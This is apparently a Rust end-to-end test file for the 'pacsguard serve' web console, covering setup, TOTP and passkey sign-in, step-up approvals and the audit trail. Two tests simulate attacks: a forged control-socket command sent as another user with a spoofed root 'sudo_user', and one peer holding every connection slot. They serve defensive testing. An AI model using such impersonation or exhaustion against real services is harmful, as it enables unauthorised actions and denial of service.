//! `pacsguard serve` end to end: the real binary on 127.0.0.1 (a free port), driven over
//! HTTPS by curl with a cookie jar, its certificate read by openssl, then stopped with
//! SIGTERM and its trail read back with `pacsguard audit`.

mod common;

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use common::process::{Running, guard_as};
use common::{Env, SmallDisk, pacsguard, stderr, stdout};
use pacsguard_console::totp;

const PASSWORD: &str = "amber lantern over quiet harbour";

/// A running `pacsguard serve` and how curl reaches its console. Its output (stderr;
/// stdout: the guard's findings, one line each, as `watch` prints them) is the
/// [`Running`] it derefs to.
struct Server {
    process: Running,
    base: String,
    jar: PathBuf,
    cacert: PathBuf,
}

impl std::ops::Deref for Server {
    type Target = Running;

    fn deref(&self) -> &Running {
        &self.process
    }
}

/// The file whose number of seconds moves the console's clock of a test server ahead.
fn clock_file(env: &Env) -> PathBuf {
    env.dir.path().join("console-clock-offset")
}

impl Server {
    fn start(env: &Env, args: &[&str]) -> Server {
        let mut command = pacsguard();
        // The console's test clock (debug builds only): absent, no offset.
        command.env("PACSGUARD_TEST_CLOCK_FILE", clock_file(env));
        let serve = [&["serve", "--listen", "127.0.0.1:0"], args].concat();
        let mut server = Server {
            process: guard_as(command, env, &serve),
            base: String::new(),
            jar: env.dir.path().join("cookies.txt"),
            cacert: env.home.join("console/cert.pem"),
        };
        let text = server.stderr();
        let start = text
            .find("console at ")
            .expect("the console's URL is printed")
            + "console at ".len();
        let end = start + text[start..].find('\n').expect("line");
        server.base = text[start..end].trim_end_matches('/').to_string();
        server
    }

    fn setup_link(&self) -> Option<String> {
        let text = self.stderr();
        let start = text.find("https://")?;
        let line = text[start..]
            .lines()
            .find(|l| l.contains("/setup?token="))?;
        let at = text.find(line)?;
        let from = at + text[at..].find("https://")?;
        Some(text[from..].lines().next()?.trim().to_string())
    }

    /// curl with the certificate the server printed the fingerprint of, and a cookie jar.
    fn curl(&self, method: &str, path: &str, form: &[(&str, &str)]) -> (u16, String, String) {
        self.curl_as(&self.jar, method, path, form)
    }

    /// [`Server::curl`] as another browser: its own cookie jar.
    fn curl_as(
        &self,
        jar: &Path,
        method: &str,
        path: &str,
        form: &[(&str, &str)],
    ) -> (u16, String, String) {
        let mut command = Command::new("curl");
        command
            .args(["-sS", "--cacert"])
            .arg(&self.cacert)
            .arg("-c")
            .arg(jar)
            .arg("-b")
            .arg(jar)
            .args(["-X", method, "-D", "-", "-w", "\n%{http_code}"]);
        for (k, v) in form {
            command.arg("--data-urlencode").arg(format!("{k}={v}"));
        }
        let out = command
            .arg(format!("{}{path}", self.base))
            .output()
            .expect("curl runs");
        assert!(
            out.status.success(),
            "curl: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        let (rest, code) = text.rsplit_once('\n').expect("status line");
        let (headers, body) = rest.split_once("\r\n\r\n").unwrap_or((rest, ""));
        (
            code.parse().expect("status"),
            headers.to_string(),
            body.to_string(),
        )
    }

    /// SIGTERM; the exit status.
    fn stop(self) -> i32 {
        self.stop_said().0
    }

    /// SIGTERM; the exit status and all it said, its last lines included.
    fn stop_said(self) -> (i32, String) {
        let (code, said) = self.process.stop_said();
        (code.unwrap_or(-1), said)
    }
}

fn value_of(body: &str, marker: &str, end: char) -> String {
    let start = body
        .find(marker)
        .unwrap_or_else(|| panic!("{marker} in {body}"))
        + marker.len();
    let stop = body[start..].find(end).expect("end");
    body[start..start + stop].to_string()
}

fn current_code(secret_b32: &str) -> String {
    let secret = data_encoding_decode(secret_b32);
    let now = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .expect("clock")
        .as_secs();
    totp::code_at_step(&secret, totp::step_of(i64::try_from(now).expect("time")))
}

/// RFC 4648 base32 without padding, as the page shows the secret.
fn data_encoding_decode(text: &str) -> Vec<u8> {
    let mut bits = 0u64;
    let mut count = 0;
    let mut out = Vec::new();
    for c in text.bytes() {
        let v = match c {
            b'A'..=b'Z' => c - b'A',
            b'2'..=b'7' => c - b'2' + 26,
            _ => panic!("not base32: {text}"),
        };
        bits = (bits << 5) | u64::from(v);
        count += 5;
        if count >= 8 {
            count -= 8;
            out.push((bits >> count) as u8);
        }
    }
    out
}

fn openssl_fingerprint(base: &str) -> String {
    let host = base.trim_start_matches("https://");
    let cert = Command::new("openssl")
        .args(["s_client", "-connect", host])
        .stdin(Stdio::null())
        .output()
        .expect("openssl s_client runs");
    let mut x509 = Command::new("openssl")
        .args(["x509", "-noout", "-fingerprint", "-sha256"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("openssl x509 runs");
    use std::io::Write as _;
    x509.stdin
        .take()
        .expect("stdin")
        .write_all(&cert.stdout)
        .expect("pipe");
    let out = x509.wait_with_output().expect("x509");
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    text.split_once('=')
        .map(|(_, f)| f.trim().to_string())
        .unwrap_or(text)
}

fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::metadata(path)
        .expect("exists")
        .permissions()
        .mode()
        & 0o777
}

#[test]
fn first_start_setup_enrolment_overview_and_the_trail_through_the_real_binary() {
    let env = Env::new();
    env.profile(&[]);
    let server = Server::start(&env, &[]);
    let text = server.stderr();

    // The certificate it generated, kept private, is the one it serves and printed.
    assert_eq!(mode(&env.home.join("console/key.pem")), 0o600);
    let printed = value_of(&text, "SHA-256 fingerprint ", '\n');
    assert_eq!(openssl_fingerprint(&server.base), printed);

    // No default password: the one-time link is the way in.
    let link = server.setup_link().expect("a setup link is printed");
    let token = value_of(&format!("{link}\n"), "token=", '\n');
    let (status, _, _) = server.curl("GET", "/", &[]);
    assert_eq!(status, 303, "nothing opens without a session");
    let (status, _, body) = server.curl("GET", &format!("/setup?token={token}"), &[]);
    assert_eq!(status, 200, "{body}");
    assert!(body.contains("id=\"setup-form\""));
    let (status, headers, _) = server.curl(
        "POST",
        "/setup",
        &[("token", &token), ("name", "admin"), ("password", PASSWORD)],
    );
    assert_eq!(status, 303);
    let cookie_line = headers
        .lines()
        .find(|l| l.to_ascii_lowercase().starts_with("set-cookie:"))
        .expect("a session cookie");
    for attribute in [
        "__Host-pacsguard=",
        "Path=/",
        "Secure",
        "HttpOnly",
        "SameSite=Strict",
    ] {
        assert!(cookie_line.contains(attribute), "{cookie_line}");
    }
    for header in [
        "content-security-policy: default-src 'none'",
        "strict-transport-security: max-age=",
        "x-content-type-options: nosniff",
        "referrer-policy: no-referrer",
    ] {
        assert!(
            headers.to_ascii_lowercase().contains(header),
            "{header}: {headers}"
        );
    }

    // The console's events reach the trail while serve runs (the guard writes them
    // within a turn of its loop), not only when it stops.
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let shown = env.run(&["audit", "show", "--action", "account"]);
        if stdout(&shown).contains("first administrator admin created") {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "not on the trail while running: {}",
            stdout(&shown)
        );
        std::thread::sleep(Duration::from_millis(200));
    }

    // The second factor before anything else.
    let (status, headers, _) = server.curl("GET", "/", &[]);
    assert_eq!(status, 303);
    assert!(headers.contains("location: /enrol"), "{headers}");
    let (status, _, body) = server.curl("GET", "/enrol", &[]);
    assert_eq!(status, 200);
    let secret = value_of(&body, "id=\"totp-secret\" class=\"secret\">", '<');
    assert!(body.contains("otpauth://totp/"));
    let csrf = value_of(&body, "name=\"csrf\" value=\"", '"');
    let (status, _, body) = server.curl(
        "POST",
        "/enrol",
        &[("csrf", &csrf), ("code", &current_code(&secret))],
    );
    assert_eq!(status, 200, "{body}");
    assert!(body.contains("id=\"recovery-codes\""));

    // The overview: the root, the guard alive.
    let (status, _, body) = server.curl("GET", "/", &[]);
    assert_eq!(status, 200, "{body}");
    assert!(body.contains(env.tree_str()), "{body}");
    assert!(body.contains("data-alive=\"true\""), "{body}");
    let csrf = value_of(&body, "name=\"csrf\" value=\"", '"');

    // The guard runs: a change is found and counted on the overview.
    std::fs::write(env.path("readme.txt"), b"tampered\n").expect("write");
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let (_, _, body) = server.curl("GET", "/api/overview", &[]);
        let json: serde_json::Value = serde_json::from_str(&body).expect("JSON");
        if json["roots"][0]["alerts"].as_u64().unwrap_or(0) > 0 {
            assert_eq!(json["roots"][0]["state"], "alerts");
            break;
        }
        assert!(Instant::now() < deadline, "no alert counted: {body}");
        std::thread::sleep(Duration::from_millis(200));
    }

    // The trail can be verified while serve runs (read-only, no lock): intact, the
    // newest records perhaps not signed yet (exit 1 says so; 2 would be an alteration).
    let verify = env.run(&["audit", "verify"]);
    assert!(
        matches!(verify.status.code(), Some(0 | 1)),
        "{}",
        stderr(&verify)
    );

    let (status, headers, _) = server.curl("POST", "/logout", &[("csrf", &csrf)]);
    assert_eq!(status, 303);
    assert!(headers.contains("location: /login"));
    let (status, _, _) = server.curl("GET", "/", &[]);
    assert_eq!(status, 303, "signed out");

    let status = server.stop();
    assert_eq!(status, 1, "an alert was found while serving");

    // Everything was evidence, on the one trail, which verifies.
    let verify = env.run(&["audit", "verify"]);
    assert_eq!(verify.status.code(), Some(0), "{}", stderr(&verify));
    let shown = env.run(&["audit", "show", "--json"]);
    let records = stdout(&shown);
    for expected in [
        "one-time setup link was issued",
        "first administrator admin created",
        "enrolled a TOTP second factor",
        "admin signed out",
    ] {
        assert!(
            records.contains(expected),
            "{expected} not on the trail: {records}"
        );
    }
}

#[test]
fn a_second_start_reuses_the_certificate_and_prints_no_setup_link_once_an_account_exists() {
    let env = Env::new();
    env.profile(&[]);
    let server = Server::start(&env, &[]);
    let first = value_of(&server.stderr(), "SHA-256 fingerprint ", '\n');
    let link = server.setup_link().expect("link");
    let token = value_of(&format!("{link}\n"), "token=", '\n');
    let (status, _, _) = server.curl(
        "POST",
        "/setup",
        &[("token", &token), ("name", "admin"), ("password", PASSWORD)],
    );
    assert_eq!(status, 303);
    server.stop();
    let server = Server::start(&env, &[]);
    let text = server.stderr();
    assert_eq!(value_of(&text, "SHA-256 fingerprint ", '\n'), first);
    assert!(server.setup_link().is_none(), "{text}");
    // The old link does nothing.
    let (status, _, _) = server.curl("GET", &format!("/setup?token={token}"), &[]);
    assert_eq!(status, 403);
    // A command the guard cannot run for others is refused while serve holds the home,
    // naming the holder.
    let profile = env.run(&["profile", env.tree_str()]);
    assert_eq!(profile.status.code(), Some(2), "{}", stderr(&profile));
    assert!(stderr(&profile).contains("serve"), "{}", stderr(&profile));
    server.stop();
}

/// `[console] cert/key`: the administrator's own certificate (made here by openssl) is
/// the one served, nothing is generated, and a key others can read is refused.
#[test]
fn the_administrators_own_certificate_is_served_and_a_readable_key_refused() {
    let env = Env::new();
    env.profile(&[]);
    let dir = env.dir.path();
    let (cert, key) = (dir.join("own-cert.pem"), dir.join("own-key.pem"));
    let made = Command::new("openssl")
        .args([
            "req",
            "-x509",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:P-256",
            "-nodes",
            "-days",
            "1",
        ])
        .args([
            "-subj",
            "/CN=127.0.0.1",
            "-addext",
            "subjectAltName=IP:127.0.0.1",
        ])
        .arg("-keyout")
        .arg(&key)
        .arg("-out")
        .arg(&cert)
        .output()
        .expect("openssl runs");
    assert!(
        made.status.success(),
        "{}",
        String::from_utf8_lossy(&made.stderr)
    );
    let fingerprint = Command::new("openssl")
        .args(["x509", "-noout", "-fingerprint", "-sha256", "-in"])
        .arg(&cert)
        .output()
        .expect("openssl runs");
    let expected = String::from_utf8_lossy(&fingerprint.stdout)
        .split_once('=')
        .map(|(_, f)| f.trim().to_string())
        .expect("fingerprint");
    let config = env.home.join("config.toml");
    let mut text = std::fs::read_to_string(&config).expect("config");
    text.push_str(&format!(
        "\n[console]\ncert = \"{}\"\nkey = \"{}\"\n",
        cert.display(),
        key.display()
    ));
    std::fs::write(&config, text).expect("config");

    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    let refused = env.run(&["serve", "--listen", "127.0.0.1:0"]);
    assert_eq!(refused.status.code(), Some(2));
    assert!(
        stderr(&refused).contains("own-key.pem") && stderr(&refused).contains("chmod 600"),
        "{}",
        stderr(&refused)
    );

    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).expect("chmod");
    let mut server = Server::start(&env, &[]);
    server.cacert = cert.clone();
    assert_eq!(
        value_of(&server.stderr(), "SHA-256 fingerprint ", '\n'),
        expected
    );
    assert_eq!(openssl_fingerprint(&server.base), expected);
    assert!(
        !env.home.join("console/cert.pem").exists(),
        "nothing generated"
    );
    let (status, _, body) = server.curl("GET", "/login", &[]);
    assert_eq!(
        status, 200,
        "curl trusts the configured certificate: {body}"
    );
    server.stop();
}

/// `[watch]` settings for a test's serve.
fn configure_watch(env: &Env, settings: &str) {
    let path = env.home.join("config.toml");
    let mut text = std::fs::read_to_string(&path).expect("config");
    text.push_str("\n[watch]\n");
    text.push_str(settings);
    std::fs::write(&path, text).expect("config");
}

/// The CLI beside a running guard: `check`, `accept` and `scan` started from another
/// process are run by the guard (one writer of the trail and the store), as the person
/// who asked. An acceptance signs only what the guard verified and reported (review
/// s35): a vendor patch still being written (not yet verified) is refused, and accepted
/// once the guard reported it.
#[test]
fn check_accept_and_scan_beside_a_running_serve_go_through_the_guard() {
    let env = Env::new();
    env.profile(&[]);
    // A long quiet period: the patch is accepted before the guard looks at it.
    configure_watch(&env, "quiet_ms = 8000\nscrub_mb_per_s = 0\n");
    let server = Server::start(&env, &[]);
    let socket = env.home.join("control.sock");
    assert_eq!(mode(&socket) & 0o777, 0o600);

    let check = env.run(&["check", "--json"]);
    assert_eq!(check.status.code(), Some(0), "{}", stderr(&check));
    assert!(
        stdout(&check).contains("\"command\": \"check\""),
        "{}",
        stdout(&check)
    );

    // The patch is written and its writer keeps the file open (an installer still at
    // work): the guard waits for the close or the quiet period before it looks.
    let mut patch = std::fs::OpenOptions::new()
        .write(true)
        .truncate(true)
        .open(env.path("readme.txt"))
        .expect("open");
    std::io::Write::write_all(&mut patch, b"patched text\n").expect("patch");
    let check = env.run(&["check"]);
    assert_eq!(check.status.code(), Some(1), "{}", stderr(&check));
    assert!(stdout(&check).contains("readme.txt"), "{}", stdout(&check));
    assert!(
        stdout(&check).contains("DIFFERENCES FOUND"),
        "{}",
        stdout(&check)
    );

    let accept = env.run(&["accept", "--all", "--reason", "vendor patch 4.2"]);
    assert_eq!(accept.status.code(), Some(2), "{}", stdout(&accept));
    assert!(
        stderr(&accept).contains("readme.txt") && stderr(&accept).contains("changed since"),
        "{}",
        stderr(&accept)
    );
    // The installer closes the file: the guard verifies and reports it, and the same
    // acceptance passes.
    drop(patch);
    let deadline = Instant::now() + Duration::from_secs(90);
    while !server.stdout().contains("readme.txt") {
        assert!(Instant::now() < deadline, "{}", server.stdout());
        std::thread::sleep(Duration::from_millis(100));
    }
    let accept = env.run(&["accept", "--all", "--reason", "vendor patch 4.2"]);
    assert_eq!(accept.status.code(), Some(0), "{}", stderr(&accept));
    assert!(
        stdout(&accept).contains("accepted 1 differences"),
        "{}",
        stdout(&accept)
    );
    let check = env.run(&["check", "--fast"]);
    assert_eq!(check.status.code(), Some(0), "{}", stdout(&check));
    assert!(stdout(&check).contains("intact"), "{}", stdout(&check));

    // Read-only beside it: the trail's verification, and a scan run by the guard.
    let verify = env.run(&["audit", "verify"]);
    assert_ne!(verify.status.code(), Some(2), "{}", stderr(&verify));
    // A relative path is the caller's, not the guard's: resolved in the caller's
    // working directory.
    let scan = pacsguard()
        .arg("--home")
        .arg(&env.home)
        .args(["scan", "--json", "study"])
        .current_dir(&env.tree)
        .output()
        .expect("scan runs");
    assert_ne!(scan.status.code(), Some(2), "{}", stderr(&scan));
    assert!(
        stdout(&scan).contains("\"command\": \"scan\""),
        "{}",
        stdout(&scan)
    );

    server.stop();
    assert!(!socket.exists(), "the socket is removed at the stop");
    let shown = env.run(&["audit", "show", "--action", "accept", "--json"]);
    let text = stdout(&shown);
    assert!(text.contains("vendor patch 4.2"), "{text}");
    assert!(
        text.contains("\"user\": \"root\"") || text.contains("\"user\":\"root\""),
        "{text}"
    );
    let verify = env.run(&["audit", "verify"]);
    assert_eq!(verify.status.code(), Some(0), "{}", stdout(&verify));
}

/// The control socket serves only root or the guard's own user: a process of another
/// user that reaches it (the home and the socket opened up by hand) is refused by the
/// kernel's word on who it is, not by anything it says.
#[test]
fn the_control_socket_refuses_another_user() {
    if !common::is_root() {
        return;
    }
    let env = Env::new();
    env.profile(&[]);
    let server = Server::start(&env, &[]);
    let socket = env.home.join("control.sock");
    use std::os::unix::fs::PermissionsExt as _;
    for dir in [env.dir.path(), env.home.as_path()] {
        std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    }
    std::fs::set_permissions(&socket, std::fs::Permissions::from_mode(0o666)).expect("chmod");
    let script = r#"
import socket, sys
s = socket.socket(socket.AF_UNIX)
s.connect(sys.argv[1])
s.sendall(b'{"command":"accept","paths":[],"all":true,"reason":"x","json":false,"sudo_user":"root"}\n')
print(s.makefile().read())
"#;
    let out = Command::new("setpriv")
        .args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "/usr/bin/python3",
            "-c",
        ])
        .arg(script)
        .arg(&socket)
        .output()
        .expect("setpriv runs");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("uid 65534 may not command the guard"),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    server.stop();
    let shown = env.run(&["audit", "show", "--action", "accept", "--json"]);
    assert!(!stdout(&shown).contains("\"reason\""), "{}", stdout(&shown));
}

/// The code of the next TOTP step (accepted within the ±1 step drift): a code not yet
/// spent by the enrolment made in this step.
fn next_step_code(secret_b32: &str) -> String {
    let secret = data_encoding_decode(secret_b32);
    let now = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .expect("clock")
        .as_secs();
    totp::code_at_step(
        &secret,
        totp::step_of(i64::try_from(now).expect("time")) + 1,
    )
}

/// Setup of the first administrator and the enrolment of its TOTP: the secret.
fn first_admin(server: &Server) -> String {
    first_admin_with_codes(server).0
}

/// An approver accepts a difference in the console: refused until the second factor is
/// confirmed again, then done by the guard, so the signed profile really changes (a
/// `check` from another process is intact) and the trail names the person and reason.
#[test]
fn an_acceptance_in_the_console_needs_a_step_up_and_changes_the_signed_profile() {
    let env = Env::new();
    env.profile(&[]);
    let server = Server::start(&env, &[]);
    let secret = first_admin(&server);
    std::fs::write(env.path("readme.txt"), b"vendor patch 7 text\n").expect("patch");
    let deadline = Instant::now() + Duration::from_secs(60);
    while !server.stdout().contains("readme.txt") {
        assert!(Instant::now() < deadline, "{}", server.stdout());
        std::thread::sleep(Duration::from_millis(100));
    }
    let (status, _, body) = server.curl("GET", "/differences", &[]);
    assert_eq!(status, 200, "{body}");
    assert!(
        body.contains("readme.txt") && body.contains("id=\"step-up-needed\""),
        "{body}"
    );
    let csrf = value_of(&body, "name=\"csrf\" value=\"", '"');
    let root = env.tree_str();
    let accept = |csrf: &str, seen: &str| {
        server.curl(
            "POST",
            "/differences/accept",
            &[
                ("csrf", csrf),
                ("root", root),
                ("reason", "vendor patch 7"),
                ("seen", seen),
            ],
        )
    };
    let seen = value_of(&body, "name=\"seen\" value=\"", '"');
    let (status, _, body) = accept(&csrf, &seen);
    assert_eq!(status, 403, "no step-up yet: {body}");
    let (status, headers, _) = server.curl(
        "POST",
        "/step-up",
        &[("csrf", &csrf), ("code", &next_step_code(&secret))],
    );
    assert_eq!(status, 303, "{headers}");
    let (_, _, body) = server.curl("GET", "/differences", &[]);
    assert!(!body.contains("id=\"step-up-needed\""), "{body}");
    let csrf = value_of(&body, "name=\"csrf\" value=\"", '"');
    let seen = value_of(&body, "name=\"seen\" value=\"", '"');
    let (status, _, body) = accept(&csrf, &seen);
    assert_eq!(status, 200, "{body}");
    assert!(body.contains("1 difference(s)"), "{body}");

    // The trail page, read from the log's end, and the page before a record.
    let (status, _, trail) = server.curl("GET", "/trail", &[]);
    assert_eq!(status, 200, "{trail}");
    let newest: u64 = value_of(&trail, "<tr id=\"record-0\"><td>", '<')
        .parse()
        .expect("a seq");
    assert!(newest > 3, "{trail}");
    let (_, _, older) = server.curl("GET", &format!("/trail?before={newest}"), &[]);
    let first: u64 = value_of(&older, "<tr id=\"record-0\"><td>", '<')
        .parse()
        .expect("a seq");
    assert_eq!(first, newest - 1, "{older}");

    let check = env.run(&["check"]);
    assert_eq!(check.status.code(), Some(0), "{}", stdout(&check));
    server.stop();
    let shown = env.run(&["audit", "show", "--action", "accept", "--json"]);
    let text = stdout(&shown);
    assert!(
        text.contains("console:admin") && text.contains("vendor patch 7"),
        "{text}"
    );
    let shown = env.run(&["audit", "show", "--action", "login"]);
    assert!(
        stdout(&shown).contains("admin confirmed the second factor for decisions"),
        "{}",
        stdout(&shown)
    );
    let verify = env.run(&["audit", "verify"]);
    assert_eq!(verify.status.code(), Some(0), "{}", stdout(&verify));
}

/// The console in a real browser (Debian's Chromium, headless, driven by playwright-core
/// from `tests/browser/`): setup link, first administrator, TOTP enrolment, sign-out and
/// sign-in with a recovery code, the overview, alerts and trail pages, then a difference
/// accepted with a step-up and a reason, which really changes the signed profile; then
/// the sessions, charts, quarantine, break-glass and older-trail pages, a forged CSRF
/// token refused, a wrong password, a wrong code and a replayed code refused alike,
/// throttling that refuses even the right password, and a viewer refused an approver's
/// action through the page and the API. Every page is photographed into
/// `target/tmp/browser-screenshots/` (and `failure.png`).
#[test]
fn the_console_in_a_real_browser_from_setup_to_an_acceptance() {
    let workspace = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let node_modules = workspace.join(".testdata/node/node_modules");
    assert!(
        node_modules.join("playwright-core").is_dir() && Path::new("/usr/bin/chromium").exists(),
        "the browser tests need chromium and playwright-core: run scripts/setup-test-deps.sh"
    );
    let shots = Path::new(env!("CARGO_TARGET_TMPDIR")).join("browser-screenshots");
    let _ = std::fs::remove_dir_all(&shots);
    std::fs::create_dir_all(&shots).expect("screenshot directory");

    let env = Env::new();
    env.profile(&[]);
    let server = Server::start(&env, &[]);
    let link = server.setup_link().expect("a setup link is printed");
    std::fs::write(env.path("readme.txt"), b"vendor patch 7 text\n").expect("patch");
    let deadline = Instant::now() + Duration::from_secs(60);
    while !server.stdout().contains("readme.txt") {
        assert!(Instant::now() < deadline, "{}", server.stdout());
        std::thread::sleep(Duration::from_millis(100));
    }
    let out = Command::new("node")
        .arg(
            Path::new(env!("CARGO_MANIFEST_DIR"))
                .join("tests/browser/first_admin_to_acceptance.cjs"),
        )
        .env("BASE", &server.base)
        .env("SETUP_LINK", &link)
        .env("SHOTS", &shots)
        .env("CLOCK_FILE", clock_file(&env))
        .env("NODE_PATH", &node_modules)
        .output()
        .expect("node runs");
    assert!(
        out.status.success(),
        "{}{}\nscreenshots in {}\nserve: {}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
        shots.display(),
        server.stderr()
    );
    assert!(shots.join("10-accepted.png").is_file());

    // The signed profile changed: a check from another process is intact.
    let check = env.run(&["check"]);
    assert_eq!(check.status.code(), Some(0), "{}", stdout(&check));
    server.stop();
    let shown = env.run(&["audit", "show", "--action", "accept", "--json"]);
    let text = stdout(&shown);
    assert!(
        text.contains("console:admin") && text.contains("CHG-1234"),
        "{text}"
    );
    // The idle expiry the browser met (the console's clock moved past the limit) is on
    // the trail.
    let all = stdout(&env.run(&["audit", "show", "--json"]));
    assert!(
        all.contains("the session of admin ended: idle for 15 minutes"),
        "{all}"
    );
    // The password reset the browser went through (issue 13, session 25).
    assert!(
        all.contains("admin reset the password of val (after a step-up)")
            && all.contains("forgot it, ticket 88")
            && all.contains("val chose a new password with the reset link"),
        "{all}"
    );
    assert!(shots.join("24-reset-done.png").is_file());
}

/// Passkeys in a real browser (Debian's Chromium with its virtual authenticator through
/// CDP, driven by `tests/browser/passkey.cjs`): a passkey as the first administrator's
/// second factor (a real attestation object from Chromium), sign-out, sign-in with the
/// password and the passkey, a step-up with it that lets a difference be accepted; then
/// a second account with a passkey alone finishes a password reset with it (review
/// r26-console); an authenticator that does not verify its user gets no session, and an answer without
/// user verification posted by a changed page script is refused by the server. The
/// console is opened at `https://localhost:PORT`, the relying party a loopback `serve`
/// takes by default (browsers allow no passkey on an IP address).
#[test]
fn passkeys_in_a_real_browser_from_setup_to_a_step_up() {
    let workspace = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let node_modules = workspace.join(".testdata/node/node_modules");
    assert!(
        node_modules.join("playwright-core").is_dir() && Path::new("/usr/bin/chromium").exists(),
        "the browser tests need chromium and playwright-core: run scripts/setup-test-deps.sh"
    );
    // A directory of its own: the other browser test empties its own when it starts,
    // and the two may run at once.
    let shots = Path::new(env!("CARGO_TARGET_TMPDIR")).join("browser-screenshots-passkeys");
    let _ = std::fs::remove_dir_all(&shots);
    std::fs::create_dir_all(&shots).expect("screenshot directory");

    let env = Env::new();
    env.profile(&[]);
    let server = Server::start(&env, &[]);
    assert!(
        server.stderr().contains("passkeys at https://localhost:"),
        "{}",
        server.stderr()
    );
    let link = server
        .setup_link()
        .expect("a setup link is printed")
        .replace("https://127.0.0.1:", "https://localhost:");
    let base = server
        .base
        .replace("https://127.0.0.1:", "https://localhost:");
    std::fs::write(env.path("readme.txt"), b"vendor patch 8 text\n").expect("patch");
    let deadline = Instant::now() + Duration::from_secs(60);
    while !server.stdout().contains("readme.txt") {
        assert!(Instant::now() < deadline, "{}", server.stdout());
        std::thread::sleep(Duration::from_millis(100));
    }
    let out = Command::new("node")
        .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/browser/passkey.cjs"))
        .env("BASE", &base)
        .env("SETUP_LINK", &link)
        .env("SHOTS", &shots)
        .env("NODE_PATH", &node_modules)
        .output()
        .expect("node runs");
    assert!(
        out.status.success(),
        "{}{}\nscreenshots in {}\nserve: {}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
        shots.display(),
        server.stderr()
    );
    assert!(shots.join("passkey-12-server-refuses-no-uv.png").is_file());
    assert!(shots.join("passkey-10-reset-done.png").is_file());
    let check = env.run(&["check"]);
    assert_eq!(check.status.code(), Some(0), "{}", stdout(&check));
    server.stop();
    let logins = stdout(&env.run(&["audit", "show", "--action", "login", "--json"]));
    for expected in [
        "signed in (administrator) from 127.0.0.1 with the passkey",
        "confirmed the second factor with the passkey",
        "failed: passkey: the authenticator did not verify the user (flag UV",
    ] {
        assert!(logins.contains(expected), "{expected}: {logins}");
    }
    let accounts = stdout(&env.run(&["audit", "show", "--action", "account", "--json"]));
    assert!(
        accounts.contains("registered the passkey") && accounts.contains("attestation none"),
        "{accounts}"
    );
    // The reset finished with pat's passkey (review r26-console).
    assert!(
        accounts.contains("pat chose a new password with the reset link from 127.0.0.1 (with the second factor with the passkey"),
        "{accounts}"
    );
}

/// One peer that opens every connection slot and never starts TLS (each held up to
/// HANDSHAKE_TIMEOUT, renewed at will) locked everyone out: found in review, a person's
/// page took 7 to 11 s while one client did this. A peer now gets
/// MAX_CONNECTIONS_PER_ADDRESS at once; another address is served at once meanwhile,
/// and the greedy peer's next connection is closed rather than held.
#[test]
fn one_peer_holding_every_connection_slot_does_not_lock_others_out() {
    use pacsguard_console::server::{MAX_CONNECTIONS, MAX_CONNECTIONS_PER_ADDRESS};
    use std::io::Read as _;
    let env = Env::new();
    env.profile(&[]);
    let server = Server::start(&env, &[]);
    let address = server.base.trim_start_matches("https://").to_string();
    let held: Vec<std::net::TcpStream> = (0..MAX_CONNECTIONS)
        .filter_map(|_| std::net::TcpStream::connect(&address).ok())
        .collect();
    assert_eq!(held.len(), MAX_CONNECTIONS, "the greedy peer connected");
    std::thread::sleep(Duration::from_secs(1));
    // Another client address (127.0.0.2 on the loopback) is served now, well before
    // HANDSHAKE_TIMEOUT (10 s) would free the greedy peer's slots.
    let out = Command::new("curl")
        .args(["-sS", "-k", "--max-time", "5", "--interface", "127.0.0.2"])
        .args(["-o", "/dev/null", "-w", "%{http_code}"])
        .arg(format!("{}/login", server.base))
        .output()
        .expect("curl runs");
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "200",
        "another address is served while one peer holds every slot: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    // The greedy peer's connections past its share were closed (end of stream), not
    // held: the first one past the share, and the last one.
    for mut last in [
        &held[MAX_CONNECTIONS_PER_ADDRESS],
        held.last().expect("held"),
    ] {
        last.set_read_timeout(Some(Duration::from_secs(2)))
            .expect("timeout");
        assert!(
            matches!(last.read(&mut [0u8; 1]), Ok(0)),
            "over its share, the peer's connection is closed at once"
        );
    }
    // And the refusals are on the service's log: one line, counting the rest (waited
    // for: the log is read by a thread of the test, flake audit of session 41).
    server.wait_for(
        "refused a connection from 127.0.0.1",
        Duration::from_secs(10),
    );
    let log = server.stderr();
    assert_eq!(
        log.matches("refused a connection from 127.0.0.1").count(),
        1,
        "{log}"
    );
    drop(held);
    server.stop();
}

/// Found in review (r23): peers on several addresses (8 here, each within its
/// MAX_CONNECTIONS_PER_ADDRESS) that open connections and never start TLS hold every
/// one of MAX_CONNECTIONS slots; a person's page then waited up to HANDSHAKE_TIMEOUT
/// (9 s measured) and the service's log said nothing. The slots all held is now
/// written to the log (rate-limited), with how many addresses hold them.
#[test]
fn every_connection_slot_held_is_said_on_the_log() {
    use pacsguard_console::server::{MAX_CONNECTIONS, MAX_CONNECTIONS_PER_ADDRESS};
    let env = Env::new();
    env.profile(&[]);
    let server = Server::start(&env, &[]);
    let target: std::net::SocketAddr = server
        .base
        .trim_start_matches("https://")
        .parse()
